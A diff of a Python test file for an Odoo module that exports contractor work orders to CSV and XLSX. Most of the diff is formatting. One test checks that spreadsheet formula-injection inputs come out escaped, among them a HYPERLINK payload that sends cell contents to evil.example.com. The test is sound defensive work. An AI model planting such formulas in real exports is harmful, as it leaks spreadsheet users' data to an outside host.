@@ -1,7 +1,7 @@
+import base64
 import csv
 import io
 import json
-import base64
 from datetime import date, timedelta
 from unittest.mock import patch
 
@@ -16,12 +16,30 @@ from odoo.addons.spreadsheet.utils.validate_data import fields_in_spreadsheet
 from .common import KlusheerenFinanceCase
 
 ORDER_HEADER = [
-    "Work order", "Ticket", "Completed on", "Contractor", "Contractor reference", "Customer", "Site",
-    "Equipment", "Warranty", "Lines", "Amount excl. VAT", "Currency", "Export batch",
+    "Work order",
+    "Ticket",
+    "Completed on",
+    "Contractor",
+    "Contractor reference",
+    "Customer",
+    "Site",
+    "Equipment",
+    "Warranty",
+    "Lines",
+    "Amount excl. VAT",
+    "Currency",
+    "Export batch",
 ]
 LINE_HEADER = [
-    "Work order", "Contractor", "Type", "Article code", "Description", "Quantity", "Unit",
-    "Unit price excl. VAT", "Subtotal excl. VAT",
+    "Work order",
+    "Contractor",
+    "Type",
+    "Article code",
+    "Description",
+    "Quantity",
+    "Unit",
+    "Unit price excl. VAT",
+    "Subtotal excl. VAT",
 ]
 
 
@@ -62,13 +80,33 @@ class TestFinanceExport(KlusheerenFinanceCase):
         self.assertEqual(first[2].date(), done_on)
         self.assertEqual(
             first[3:],
-            ["Koeltechniek Jansen", "F-34509-1", "Klant Eén B.V.", "Demo locatie 1", "Koelkast 2.21", "Yes", 3, 167.5,
-             self.currency, batch.name],
+            [
+                "Koeltechniek Jansen",
+                "F-34509-1",
+                "Klant Eén B.V.",
+                "Demo locatie 1",
+                "Koelkast 2.21",
+                "Yes",
+                3,
+                167.5,
+                self.currency,
+                batch.name,
+            ],
         )
         self.assertEqual(
             orders[2][3:],
-            ["Cool Fix Ltd", "CF-77", "Klant Twee B.V.", "Locatie Utrecht", "Vaatwasser", "No", 0, 258.17, self.currency,
-             batch.name],
+            [
+                "Cool Fix Ltd",
+                "CF-77",
+                "Klant Twee B.V.",
+                "Locatie Utrecht",
+                "Vaatwasser",
+                "No",
+                0,
+                258.17,
+                self.currency,
+                batch.name,
+            ],
         )
         total = orders[3]
         self.assertEqual(total[9], "Total")
@@ -79,9 +117,29 @@ class TestFinanceExport(KlusheerenFinanceCase):
         self.assertEqual(
             lines[1:],
             [
-                [self.with_lines.name, "Koeltechniek Jansen", "Call-out", "VRK", "[VRK] Voorrijkosten", 1, "Units", 45, 45],
+                [
+                    self.with_lines.name,
+                    "Koeltechniek Jansen",
+                    "Call-out",
+                    "VRK",
+                    "[VRK] Voorrijkosten",
+                    1,
+                    "Units",
+                    45,
+                    45,
+                ],
                 [self.with_lines.name, "Koeltechniek Jansen", "Labour", "", "Monteur", 1.5, "Hours", 65, 97.5],
-                [self.with_lines.name, "Koeltechniek Jansen", "Material", "AFD", "[AFD] Afdichting", 2, "Units", 12.5, 25],
+                [
+                    self.with_lines.name,
+                    "Koeltechniek Jansen",
+                    "Material",
+                    "AFD",
+                    "[AFD] Afdichting",
+                    2,
+                    "Units",
+                    12.5,
+                    25,
+                ],
                 [self.lump_sum.name, "Cool Fix Ltd", "Lump sum", "", self.lump_sum.title, 1, "", 258.17, 258.17],
             ],
         )
@@ -98,8 +156,21 @@ class TestFinanceExport(KlusheerenFinanceCase):
         rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
         self.assertEqual(rows[0], ORDER_HEADER + LINE_HEADER[2:])
         done_on = fields.Datetime.context_timestamp(batch, self.with_lines.date_done).strftime("%d-%m-%Y")
-        head = [self.with_lines.name, self.with_lines.ticket_id.number, done_on, "Koeltechniek Jansen", "F-34509-1",
-                "Klant Eén B.V.", "Demo locatie 1", "Koelkast 2.21", "Yes", "3", "167,50", self.currency, batch.name]
+        head = [
+            self.with_lines.name,
+            self.with_lines.ticket_id.number,
+            done_on,
+            "Koeltechniek Jansen",
+            "F-34509-1",
+            "Klant Eén B.V.",
+            "Demo locatie 1",
+            "Koelkast 2.21",
+            "Yes",
+            "3",
+            "167,50",
+            self.currency,
+            batch.name,
+        ]
         self.assertEqual(rows[1], head + ["Call-out", "VRK", "[VRK] Voorrijkosten", "1", "Units", "45,00", "45,00"])
         self.assertEqual(rows[2], head + ["Labour", "", "Monteur", "1,5", "Hours", "65,00", "97,50"])
         self.assertEqual(rows[3], head + ["Material", "AFD", "[AFD] Afdichting", "2", "Units", "12,50", "25,00"])
@@ -123,13 +194,20 @@ class TestFinanceExport(KlusheerenFinanceCase):
         batch = self.new_batch(contractor_ids=[(6, 0, self.contractor.ids)])
         batch.action_export()
         self.assertIn(evil, batch.work_order_ids)
-        rows = list(csv.reader(io.StringIO(self.attachment_bytes(batch.csv_attachment_id).decode("utf-8-sig")), delimiter=";"))
+        rows = list(
+            csv.reader(io.StringIO(self.attachment_bytes(batch.csv_attachment_id).decode("utf-8-sig")), delimiter=";")
+        )
         evil_rows = [row for row in rows if row[0] == evil.name]
         self.assertEqual(
             [row[15] for row in evil_rows],
-            ["'=HYPERLINK(\"http://evil.example.com?\"&A1,\"klik\")", "'+31 20 1234567", "'-2+3", "'@SUM(A1:A9)",
-             "TAB", "Gewoon = niets"],  # the model strips a leading tab
-
+            [
+                '\'=HYPERLINK("http://evil.example.com?"&A1,"klik")',
+                "'+31 20 1234567",
+                "'-2+3",
+                "'@SUM(A1:A9)",
+                "TAB",
+                "Gewoon = niets",
+            ],  # the model strips a leading tab
         )
         self.assertEqual(evil_rows[0][4], "'=1+1")
         # in the XLSX the same texts are text cells, never formulas
@@ -176,8 +254,10 @@ class TestFinanceExport(KlusheerenFinanceCase):
             "UPDATE klusheeren_work_order SET klusheeren_export_id = %s WHERE id = %s", [other.id, self.lump_sum.id]
         )
         self.env.invalidate_all()
-        with patch.object(type(batch), "_candidate_domain", lambda self: [("id", "in", ids)]), \
-                self.assertRaisesRegex(UserError, "exported by another batch"):
+        with (
+            patch.object(type(batch), "_candidate_domain", lambda self: [("id", "in", ids)]),
+            self.assertRaisesRegex(UserError, "exported by another batch"),
+        ):
             batch.action_export()
         self.assertEqual(self.lump_sum.klusheeren_export_id, other, "the other batch keeps it")
 
@@ -246,6 +326,10 @@ class TestFinanceExport(KlusheerenFinanceCase):
             # each pivot of the dashboard answers
             for pivot in data["pivots"].values():
                 self.env[pivot["model"]].with_user(self.backoffice).formatted_read_group(
-                    pivot["domain"], [row["fieldName"] for row in pivot["rows"]],
-                    [f"{m['fieldName']}:{self.env[pivot['model']]._fields[m['fieldName']].aggregator}" for m in pivot["measures"]],
+                    pivot["domain"],
+                    [row["fieldName"] for row in pivot["rows"]],
+                    [
+                        f"{m['fieldName']}:{self.env[pivot['model']]._fields[m['fieldName']].aggregator}"
+                        for m in pivot["measures"]
+                    ],
                 )
